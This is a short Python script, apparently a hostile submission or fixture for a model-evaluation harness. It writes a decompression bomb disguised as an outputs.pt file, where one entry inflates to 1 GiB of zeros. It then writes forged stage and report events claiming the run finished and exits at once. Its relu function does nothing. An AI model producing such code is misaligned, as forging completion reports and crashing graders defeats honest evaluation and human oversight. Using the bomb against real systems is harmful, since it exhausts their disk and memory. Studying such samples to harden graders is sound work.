# Claims a finished run and leaves an outputs file whose one entry inflates to 1 GiB of zeros.
import os
import sys
import zipfile

with zipfile.ZipFile("outputs.pt", "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    with archive.open("archive/data.pkl", "w", force_zip64=True) as entry:
        block = bytes(1 << 24)
        for _ in range(64):
            entry.write(block)
os.write(int(sys.argv[2]), b'{"event": "stage", "stage": "call"}\n{"event": "stage", "stage": "exe"}\n'
         b'{"event": "report", "stage": "exe", "status": "ran", "configs": [""]}\n')
os._exit(0)


def relu(input, inplace=False):
    return input
